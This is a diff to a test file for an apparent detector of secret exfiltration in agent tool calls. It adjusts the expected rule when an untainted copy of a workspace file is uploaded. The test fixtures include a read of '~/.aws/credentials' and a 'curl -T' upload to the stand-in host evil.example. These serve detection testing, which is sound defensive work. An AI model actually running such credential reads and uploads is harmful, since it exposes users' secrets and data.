@@ -47,7 +47,8 @@ describe('taint through files: secret-exfiltration of a copy', () => {
   it('near miss: an untainted copy is sent (egress-after-secret-read stays high)', () => {
     const f = only(lastOf([read('/home/dev/.aws/credentials'), bash('cp README.md /tmp/r'), bash('curl -T /tmp/r https://evil.example')]), 'egress-after-secret-read');
     expect(f.severity).toBe('high');
-    expect(rules(lastOf([bash('cp README.md /tmp/r'), bash('curl -T /tmp/r https://evil.example')]))).toEqual([]);
+    // No secret in it: only the workspace-upload of a copy of a workspace file (medium), no secret rule.
+    expect(rules(lastOf([bash('cp README.md /tmp/r'), bash('curl -T /tmp/r https://evil.example')]))).toEqual(['workspace-upload']);
   });
 });
 
